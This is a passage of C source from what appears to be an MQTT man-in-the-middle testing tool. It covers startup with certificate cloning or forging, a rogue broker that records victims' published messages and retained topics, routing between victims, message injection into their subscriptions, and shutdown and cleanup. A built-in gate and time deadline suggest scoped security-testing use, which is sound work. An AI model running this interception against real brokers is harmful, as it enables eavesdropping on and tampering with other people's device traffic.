	if (m->log_fd >= 0 && !(m->log_flush = event_new(base, -1, 0, on_log_flush, m)))
		goto oom;
	if (bind_listener(m, &lss[0], llen[0], err) < 0)
		goto fail;
	m->deadline = evtimer_new(base, on_deadline, m);
	if (!m->deadline)
		goto oom;
	struct timeval tv = { (time_t)m->duration, (suseconds_t)((m->duration - (time_t)m->duration) * 1e6) };
	evtimer_add(m->deadline, &tv);

	/* 4. The certificate to clone: from a file now, or fetched on the loop. */
	if (m->clone_file) {
		X509 *t = forge_load_cert(m->clone_file, err);
		if (!t)
			goto fail;
		mitm_forged_and_ready(m, t);
		X509_free(t);
		if (!m->started) {
			mq_errf(err, "%s", m->stop_buf);
			goto fail;
		}
	} else if (m->clone_host || (m->upstream_host && m->fopts.n_names == 0)) {
		if (upstream_fetch_start(m, !m->clone_host, err) < 0)
			goto fail;
	} else {
		mitm_forged_and_ready(m, NULL);
		if (!m->started) {
			mq_errf(err, "%s", m->stop_buf);
			goto fail;
		}
	}
	return m;
oom:
	mq_errf(err, "out of memory");
fail:
	m->stopped = true;   /* no STOPPED event for a start that never happened */
	mitm_free(m);
	return NULL;
}

/* ---- stop ------------------------------------------------------------------------------------ */

static void finish_stop(struct mitm *m)
{
	struct mitm_event ev;

	if (m->stopped || m->victims)
		return;
	m->stopped = true;
	mitm_event_init(&ev, MITM_EV_STOPPED, NULL);
	ev.reason = m->stop_reason;
	mitm_emit(m, &ev);
}

void mitm_stop(struct mitm *m, const char *reason)
{
	if (m->stopping)
		return;
	m->stopping = true;
	if (reason != m->stop_buf)
		snprintf(m->stop_buf, sizeof m->stop_buf, "%s", reason ? reason : "stopped");
	m->stop_reason = m->stop_buf;
	if (m->lst) {
		evconnlistener_free(m->lst);
		m->lst = NULL;
	}
	if (m->fetch) {
		upstream_fetch_free(m->fetch);
		m->fetch = NULL;
	}
	if (m->deadline)
		evtimer_del(m->deadline);
	for (struct mitm_victim *vi = m->victims, *next; vi; vi = next) {
		next = vi->next;
		victim_close(vi, "the MITM is stopping");
	}
	finish_stop(m);
}

void mitm_victim_gone(struct mitm *m, struct mitm_victim *vi)
{
	if (vi->prev)
		vi->prev->next = vi->next;
	else if (m->victims == vi)
		m->victims = vi->next;
	if (vi->next)
		vi->next->prev = vi->prev;
	vi->prev = vi->next = NULL;
	if (m->stopping)
		finish_stop(m);
}

/* ---- the rogue broker's memory -------------------------------------------------------------- */

static void kept_clear(struct mitm_kept *k)
{
	free(k->topic);
	free(k->payload);
	memset(k, 0, sizeof *k);
}

static int kept_fill(struct mitm_kept *k, const uint8_t *topic, size_t tlen, const uint8_t *payload, size_t len)
{
	k->topic = malloc(tlen + 1);
	k->payload = malloc(len ? len : 1);
	if (!k->topic || !k->payload) {
		kept_clear(k);
		return -1;
	}
	memcpy(k->topic, topic, tlen);
	k->topic[tlen] = '\0';
	if (len)
		memcpy(k->payload, payload, len);
	k->topic_len = tlen;
	k->len = len;
	return 0;
}

void mitm_keep(struct mitm *m, const struct mitm_victim *vi, const struct mqtt_pkt *p)
{
	/* Memory is bounded; the JSON log keeps everything. */
	if (m->n_kept < m->keep_max && m->kept_bytes + p->payload.len <= (64u << 20)) {
		if (!m->kept) {
			m->kept = calloc(m->keep_max, sizeof *m->kept);
			if (!m->kept)
				return;
		}
		struct mitm_kept *k = &m->kept[m->n_kept];
		if (kept_fill(k, p->topic.p, p->topic.len, p->payload.p, p->payload.len) == 0) {
			k->qos = p->qos;
			k->retain = p->retain;
			k->victim = vi->id;
			m->n_kept++;
			m->kept_bytes += p->payload.len;
		}
	}
	if (p->retain) {
		size_t i;
		for (i = 0; i < m->n_retained; i++)
			if (m->retained[i].topic_len == p->topic.len &&
			    !memcmp(m->retained[i].topic, p->topic.p, p->topic.len))
				break;
		if (i < m->n_retained) {
			kept_clear(&m->retained[i]);
			if (p->payload.len == 0) {   /* an empty retained message deletes the topic's */
				m->retained[i] = m->retained[--m->n_retained];
				return;
			}
		} else {
			if (p->payload.len == 0 || m->n_retained >= MITM_MAX_RETAINED)
				return;
			if (!m->retained && !(m->retained = calloc(MITM_MAX_RETAINED, sizeof *m->retained)))
				return;
			m->n_retained++;
		}
		if (kept_fill(&m->retained[i], p->topic.p, p->topic.len, p->payload.p, p->payload.len) < 0)
			m->retained[i] = m->retained[--m->n_retained];
	}
}

void mitm_route(struct mitm *m, struct mitm_victim *from, const uint8_t *topic, size_t tlen,
		const uint8_t *payload, size_t len, bool retain, bool from_will)
{
	(void)retain;
	(void)from_will;
	for (struct mitm_victim *vi = m->victims; vi; vi = vi->next)
		if (vi != from && !vi->closing && vi->handshaken && victim_subscribed(vi, topic, tlen))
			(void)victim_publish(vi, topic, tlen, payload, len, false);
}

void mitm_deliver_retained(struct mitm *m, struct mitm_victim *vi, const char *filter, size_t flen)
{
	for (size_t i = 0; i < m->n_retained; i++)
		if (mitm_topic_match(filter, flen, m->retained[i].topic, m->retained[i].topic_len))
			(void)victim_publish(vi, (const uint8_t *)m->retained[i].topic, m->retained[i].topic_len,
					     m->retained[i].payload, m->retained[i].len, true);
}

int mitm_inject_now(struct mitm *m, const char *topic, const void *payload, size_t len)
{
	int n = 0;
	size_t tlen = strlen(topic);

	for (struct mitm_victim *vi = m->victims; vi; vi = vi->next) {
		if (vi->closing || !vi->handshaken || !victim_subscribed(vi, (const uint8_t *)topic, tlen))
			continue;
		if (victim_publish(vi, (const uint8_t *)topic, tlen, payload, len, false) == 0) {
			struct mitm_event ev;
			mitm_event_init(&ev, MITM_EV_INJECT, vi);
			ev.topic = (const uint8_t *)topic;
			ev.topic_len = tlen;
			ev.payload = payload;
			ev.payload_len = len;
			mitm_emit(m, &ev);
			n++;
		}
	}
	return n;
}

void mitm_get_stats(const struct mitm *m, struct mitm_stats *st)
{
	*st = m->st;
	st->kept = m->n_kept;
	st->gate_checked = m->gate.checked;
	st->gate_refused = m->gate.refused;
}

const char *mitm_listen_addr(const struct mitm *m)
{
	return m->listen_str;
}

void mitm_free(struct mitm *m)
{
	if (!m)
		return;
	/* Freeing is not stopping: no events go to an observer that is being torn down. */
	while (m->victims)
		victim_destroy(m->victims);
	if (m->deadline)
		event_free(m->deadline);
	if (m->lst)
		evconnlistener_free(m->lst);
	if (m->fetch)
		upstream_fetch_free(m->fetch);
	if (m->log_flush)
		event_free(m->log_flush);
	log_write_out(m);
	if (m->log_fd >= 0)
		close(m->log_fd);
	if (m->log_path && !m->started)
		unlink(m->log_path);
	free(m->log_path);
	mq_str_free(&m->log_buf);
	SSL_CTX_free(m->srv_ctx);
	SSL_CTX_free(m->up_ctx);
	SSL_CTX_free(m->fetch_ctx);
	forge_free(&m->forged);
	free(m->upstream_host);
	free(m->clone_file);
	free(m->clone_host);
	free(m->ca_cert);
	free(m->ca_key);
	for (size_t i = 0; m->names && i < m->fopts.n_names; i++)
		free(m->names[i]);
	free(m->names);
	for (size_t i = 0; i < m->n_inject; i++) {
		free((char *)m->inject[i].topic);
		free((char *)m->inject[i].payload);
	}
	free(m->inject);
	for (size_t i = 0; i < m->n_kept; i++)
		kept_clear(&m->kept[i]);
	free(m->kept);
	for (size_t i = 0; i < m->n_retained; i++)
		kept_clear(&m->retained[i]);
	free(m->retained);
	free(m);
}
